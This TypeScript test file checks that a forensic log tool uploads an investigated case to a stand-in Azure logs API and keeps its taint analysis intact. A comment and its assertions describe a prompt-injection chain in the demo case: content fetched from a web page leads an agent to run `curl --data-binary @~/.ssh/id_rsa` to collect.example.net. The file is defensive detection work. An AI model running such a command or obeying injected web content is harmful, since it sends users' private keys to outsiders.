// `ingestCase` and `IngestClient` against a local STAND-IN of the Logs Ingestion API (there is
// no emulator for it; @oclog/test-kit/azure-monitor's stand-in stores the rows it accepts). The case is real:
// the embedded demo investigated through Azurite.
import { chmodSync, cpSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import test from "ava";
import { DuckDBInstance } from "@duckdb/node-api";
import { CustodyLog, runCaseQuery, sha256File, type CaseManifest } from "@oclog/investigate";
import { runDemo } from "@oclog/test-kit/demo";
import { dcrDefinition, OCLOG_EVENTS_TABLE, streamFor } from "@oclog/schema";
import { IngestClient, IngestLedger, ingestCase, readCaseEvents, type IngestTarget } from "../src/index.js";
import { StandInCredential, STANDIN_TOKEN, startLogsIngestionStandIn, throttled, type LogsIngestionStandIn } from "@oclog/test-kit/azure-monitor";

const STREAM = streamFor(OCLOG_EVENTS_TABLE);
let caseDir = "";
let events = 0;
let standIn: LogsIngestionStandIn;
let nextRule = 0;

/** A fresh rule (so each test sees only its own rows), a fresh ledger, a client. */
function setup(options: { token?: string; onRetry?: (e: { status: number }) => void } = {}) {
  const ruleId = `dcr-${(nextRule++).toString(16).padStart(32, "0")}`;
  standIn.rules.set(ruleId, new Set([STREAM]));
  const target: IngestTarget = { endpoint: standIn.endpoint, ruleId, stream: STREAM };
  const client = new IngestClient(target, { credential: new StandInCredential(options.token), extraCa: standIn.ca, ...(options.onRetry ? { onRetry: options.onRetry } : {}) });
  const ledgerPath = join(mkdtempSync(join(tmpdir(), "oclog-ledger-")), "ingest-ledger.jsonl");
  return { ruleId, target, client, ledgerPath, accepted: () => standIn.accepted.get(`${ruleId}/${STREAM}`) ?? [] };
}

/** The case's rows as readCaseEvents makes them, as sorted JSON. */
async function expectedRows(): Promise<string[]> {
  const manifest = JSON.parse(readFileSync(join(caseDir, "manifest.json"), "utf8")) as CaseManifest;
  const out: string[] = [];
  for await (const blob of readCaseEvents(caseDir, manifest)) out.push(...blob.rows.map((r) => JSON.stringify(r.row)));
  return out.sort();
}

/**
 * A copy of the case whose database `sql` edits; the evidence is untouched (the case still
 * verifies) and the edit is re-sealed in custody (issue 20), as an investigator would record it.
 */
async function editedCopy(prefix: string, ...sql: string[]): Promise<string> {
  const copy = join(mkdtempSync(join(tmpdir(), prefix)), "case");
  cpSync(caseDir, copy, { recursive: true });
  const instance = await DuckDBInstance.create(join(copy, "case.duckdb"));
  const connection = await instance.connect();
  for (const statement of sql) await connection.run(statement);
  connection.closeSync();
  instance.closeSync();
  await (await CustodyLog.open(join(copy, "custody.jsonl"))).append("database.sealed", { path: "case.duckdb", sha256: await sha256File(join(copy, "case.duckdb")) });
  return copy;
}

type Step = Record<string, unknown> & { secret_kinds: string[]; tainted: boolean };
const stepOf = (row: Record<string, unknown>) => row.step as Step | undefined;
const commandOf = (row: Record<string, unknown>) => String((row.target as { command?: string | null }).command ?? "");

test.before(async () => {
  caseDir = join(mkdtempSync(join(tmpdir(), "oclog-ingest-case-")), "case");
  await runDemo({ caseDir, oclogVersion: "test" });
  events = Number((await runCaseQuery(caseDir, "SELECT count(*) AS n FROM events")).rows[0]!.n);
  standIn = await startLogsIngestionStandIn();
});
test.after.always(async () => standIn?.close());

test.serial("every event of the case arrives once, as a row of the declared stream; a rerun sends nothing", async (t) => {
  const s = setup();
  const ledger = IngestLedger.open(s.ledgerPath);
  const first = await ingestCase({ caseDir, ledger, uploader: s.client, target: s.target });
  t.true(events > 100);
  t.is(first.events, events);
  t.is(first.sent, events);
  t.deepEqual([first.failed, first.invalid, first.changed], [[], [], []]);
  t.is(first.asideFile, undefined);
  const rows = s.accepted();
  t.is(rows.length, events);

  // Every column the rows carry is declared by the stream `oclog schema export --format dcr` prints.
  const declared = dcrDefinition().dataCollectionRule.properties.streamDeclarations[STREAM]!.columns.map((c) => c.name);
  const keys = new Set(rows.flatMap((r) => Object.keys(r)));
  t.deepEqual([...keys].filter((k) => !declared.includes(k)), []);
  t.true(keys.has("TimeGenerated") && keys.has("User") && !keys.has("time") && !keys.has("blob"));
  t.true(rows.every((r) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/.test(String(r.TimeGenerated))));
  t.true(rows.every((r) => r.User === "alice"));
  // The injection chain's exfiltration command is among them, as the hunts will read it.
  t.true(rows.some((r) => /curl/.test(String((r.target as { command?: string }).command ?? ""))));

  const requests = standIn.requests.filter((r) => r.ruleId === s.ruleId);
  t.true(requests.every((r) => r.authorized && r.contentEncoding === "gzip" && r.apiVersion === "2023-01-01" && r.status === 204));

  const again = await ingestCase({ caseDir, ledger: IngestLedger.open(s.ledgerPath), uploader: s.client, target: s.target });
  t.is(again.sent, 0);
  t.is(again.alreadySent, events);
  t.is(standIn.requests.filter((r) => r.ruleId === s.ruleId).length, requests.length, "no request at all on the rerun");
  t.is(s.accepted().length, events);
});

test.serial("a refused batch is kept aside with the reason and sent (only it) on the rerun: no row lost, none twice", async (t) => {
  const s = setup();
  standIn.failNext.push({ status: 400, code: "InvalidContent", message: "A row did not match the stream declaration." });
  const first = await ingestCase({ caseDir, ledger: IngestLedger.open(s.ledgerPath), uploader: s.client, target: s.target });
  t.true(first.failed.length > 0);
  t.is(first.sent + first.failed.length, events);
  t.regex(first.failed[0]!.reason, /HTTP 400[\s\S]*did not match the stream declaration/);
  const aside = readFileSync(first.asideFile!, "utf8").trim().split("\n").map((l) => JSON.parse(l) as { blob: string; reason: string; row: unknown });
  t.is(aside.length, first.failed.length);
  t.true(aside.every((a) => a.blob.startsWith("oclog/alice/") && typeof a.row === "object"));

  const second = await ingestCase({ caseDir, ledger: IngestLedger.open(s.ledgerPath), uploader: s.client, target: s.target });
  t.is(second.sent, first.failed.length);
  t.is(second.failed.length, 0);
  const rows = s.accepted();
  t.is(rows.length, events);
  // Exactly the case's rows, each once: compared as sorted JSON, not only counted.
  t.deepEqual(rows.map((r) => JSON.stringify(r)).sort(), await expectedRows());
});

test.serial("a 429 is retried after Retry-After, reported, and everything arrives", async (t) => {
  const retries: number[] = [];
  const s = setup({ onRetry: (e) => retries.push(e.status) });
  standIn.failNext.push(throttled(1));
  const result = await ingestCase({ caseDir, ledger: IngestLedger.open(s.ledgerPath), uploader: s.client, target: s.target });
  t.deepEqual(retries, [429]);
  t.is(result.sent, events);
  t.is(s.accepted().length, events);
});

test.serial("a refused login: every row kept aside with a hint, the token in no message or file", async (t) => {
  const s = setup({ token: "wrong-token-5e1d9c0b7a" });
  const result = await ingestCase({ caseDir, ledger: IngestLedger.open(s.ledgerPath), uploader: s.client, target: s.target });
  t.is(result.sent, 0);
  t.is(result.failed.length, events);
  t.regex(result.failed[0]!.reason, /HTTP 401/);
  const text = readFileSync(result.asideFile!, "utf8") + readFileSync(s.ledgerPath, "utf8") + JSON.stringify(result);
  t.false(text.includes("wrong-token-5e1d9c0b7a") || text.includes(STANDIN_TOKEN));
  // The ledger lists them all as pending: the next run with a good login sends them.
  const good = new IngestClient(s.target, { credential: new StandInCredential(), extraCa: standIn.ca });
  const retry = await ingestCase({ caseDir, ledger: IngestLedger.open(s.ledgerPath), uploader: good, target: s.target });
  t.is(retry.sent, events);
});

test.serial("an unknown rule answers 404 with what to check", async (t) => {
  const s = setup();
  const client = new IngestClient({ ...s.target, ruleId: "dcr-ffffffffffffffffffffffffffffffff" }, { credential: new StandInCredential(), extraCa: standIn.ca });
  const failures = await client.upload([{ TimeGenerated: "2026-12-01T00:00:00.000000Z" }]);
  t.is(failures.length, 1);
  t.is(failures[0]!.error.status, 404);
  t.regex(failures[0]!.error.hint ?? "", /--rule-id/);
});

test("a case that does not verify sends nothing and says why", async (t) => {
  const copy = join(mkdtempSync(join(tmpdir(), "oclog-ingest-tampered-")), "case");
  cpSync(caseDir, copy, { recursive: true });
  const manifest = JSON.parse(readFileSync(join(copy, "manifest.json"), "utf8")) as { evidence: Record<string, { path: string }> };
  const victim = join(copy, Object.values(manifest.evidence)[0]!.path);
  chmodSync(victim, 0o600);
  writeFileSync(victim, "edited");
  const s = setup();
  const error = await t.throwsAsync(ingestCase({ caseDir: copy, ledger: IngestLedger.open(s.ledgerPath), uploader: s.client, target: s.target }));
  t.regex(error!.message, /does not verify[\s\S]*SHA-256/);
  t.is(s.accepted().length, 0);
  t.false(existsSync(s.ledgerPath));
});

test.serial("a row over 1 MB is not sent, kept aside and left pending; the rest arrive", async (t) => {
  // Only one event's text is made huge.
  const copy = await editedCopy("oclog-ingest-big-", "UPDATE events SET message = repeat('x', 1200000) WHERE rowid = (SELECT min(rowid) FROM events)");
  const s = setup();
  const result = await ingestCase({ caseDir: copy, ledger: IngestLedger.open(s.ledgerPath), uploader: s.client, target: s.target });
  t.is(result.failed.length, 1);
  t.regex(result.failed[0]!.reason, /at most 1000000 per request/);
  t.is(result.longFields, 1);
  t.is(result.sent, events - 1);
  t.is(s.accepted().length, events - 1);
  t.true(standIn.requests.filter((r) => r.ruleId === s.ruleId).every((r) => r.status === 204), "the service never saw the big row");
  const ledger = readFileSync(s.ledgerPath, "utf8").trim().split("\n").map((l) => JSON.parse(l) as { pending: number[] });
  t.is(ledger.flatMap((e) => e.pending).length, 1);
});

test.serial("a tool call's row carries `step`, what tool_steps parsed of it and its taint; other rows carry none", async (t) => {
  const s = setup();
  const result = await ingestCase({ caseDir, ledger: IngestLedger.open(s.ledgerPath), uploader: s.client, target: s.target });
  t.is(result.sent, events);
  const rows = s.accepted();
  const stepColumns = (await runCaseQuery(caseDir, "SELECT * FROM tool_steps LIMIT 0")).columns.filter((c) => c.startsWith("step_"));
  const steps = Number((await runCaseQuery(caseDir, "SELECT count(*) AS n FROM tool_steps")).rows[0]!.n);
  t.true(steps >= 5);
  // Each step once, on its call's row (the trajectories' copy of a call is not in tool_steps).
  const withStep = rows.filter((r) => stepOf(r) !== undefined);
  t.is(withStep.length, steps);
  t.true(withStep.every((r) => r.action === "tool.call"));
  const others = rows.filter((r) => r.action !== "tool.call");
  t.true(others.length > 100);
  t.true(others.every((r) => !("step" in r)));

  // The injection chain's exfiltration: `curl --data-binary @~/.ssh/id_rsa` to a host never fetched from.
  const exfil = withStep.filter((r) => /id_rsa/.test(commandOf(r)) && /curl/.test(commandOf(r)));
  t.is(exfil.length, 1);
  const step = stepOf(exfil[0]!)!;
  t.deepEqual(step.secret_kinds, ["ssh-private-key"]);
  t.deepEqual(step.secret_paths, ["/home/alice/.ssh/id_rsa"]);
  t.deepEqual(step.unknown_hosts, ["collect.example.net"]);
  t.deepEqual(step.new_hosts, ["collect.example.net"]);
  t.deepEqual([step.outbound_data, step.download_and_run, step.destroys, step.persistence_kinds], [true, false, "none", []]);
  t.deepEqual([step.tainted, step.secret_read_before, step.fetched_hosts], [true, true, ["ai-tips.example.net"]]);
  t.regex(String(step.taint_via), /^web_fetch https:\/\/ai-tips\.example\.net\//);
  t.regex(String(step.taint_at), /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
  // Every step column but the full classification, without the prefix; the taint columns by name.
  const keys = Object.keys(step);
  t.deepEqual(keys.filter((k) => k.startsWith("step_") || k === "class"), []);
  t.deepEqual(stepColumns.filter((c) => c !== "step_class" && !keys.includes(c.slice("step_".length))), []);
  for (const k of ["tainted", "taint_session", "taint_at", "taint_via", "taint_blob", "taint_line", "fetched_hosts", "secret_read_before"]) t.true(keys.includes(k), k);
  // A call that is none of that is parsed too: nothing to say, said as empty lists and false.
  const harmless = withStep.find((r) => commandOf(r) === "echo oclog-harness");
  t.deepEqual([stepOf(harmless!)!.secret_kinds, stepOf(harmless!)!.tainted, stepOf(harmless!)!.programs], [[], false, ["echo"]]);
});

test.serial("a case made before tool_steps existed ingests whole, with no step on any row", async (t) => {
  const copy = await editedCopy("oclog-ingest-old-", "DROP TABLE tool_steps");
  const s = setup();
  const result = await ingestCase({ caseDir: copy, ledger: IngestLedger.open(s.ledgerPath), uploader: s.client, target: s.target });
  t.deepEqual([result.sent, result.failed, result.invalid], [events, [], []]);
  const rows = s.accepted();
  t.is(rows.length, events);
  t.true(rows.some((r) => r.action === "tool.call"));
  t.true(rows.every((r) => !("step" in r)));
});

test("a step column the loader adds later is sent too, without its prefix", async (t) => {
  const copy = await editedCopy(
    "oclog-ingest-newcol-",
    "ALTER TABLE tool_steps ADD COLUMN step_future_field VARCHAR[]",
    "UPDATE tool_steps SET step_future_field = ['/tmp/payload.sh'] WHERE call_id = 'call_demo_exfil'",
  );
  const manifest = JSON.parse(readFileSync(join(copy, "manifest.json"), "utf8")) as CaseManifest;
  const steps: Step[] = [];
  for await (const blob of readCaseEvents(copy, manifest)) steps.push(...blob.rows.map((r) => stepOf(r.row)).filter((x) => x !== undefined));
  t.true(steps.length >= 5);
  t.true(steps.every((step) => "future_field" in step));
  t.deepEqual(steps.filter((step) => step.future_field !== null).map((step) => step.future_field), [["/tmp/payload.sh"]]);
});

test("--dry-run counts what would go and writes nothing", async (t) => {
  const s = setup();
  const result = await ingestCase({ caseDir, ledger: IngestLedger.open(s.ledgerPath), target: s.target, dryRun: true });
  t.is(result.sent, events);
  t.false(existsSync(s.ledgerPath));
  t.is(s.accepted().length, 0);
});

test("the ledger: a second ingest on it is refused, a damaged line is named", (t) => {
  const dir = mkdtempSync(join(tmpdir(), "oclog-ledger-"));
  const path = join(dir, "ingest-ledger.jsonl");
  const a = IngestLedger.open(path);
  a.lock();
  t.throws(() => IngestLedger.open(path).lock(), { message: new RegExp(`pid ${process.pid}`) });
  a.unlock();
  t.notThrows(() => IngestLedger.open(path).lock());
  writeFileSync(path, '{"ruleId":"r","stream":"s","sha256":"x","rows":1,"pending":[]}\n{"ruleId":\n');
  t.throws(() => IngestLedger.open(path), { message: /line\(s\) 2 are not ledger entries/ });
});
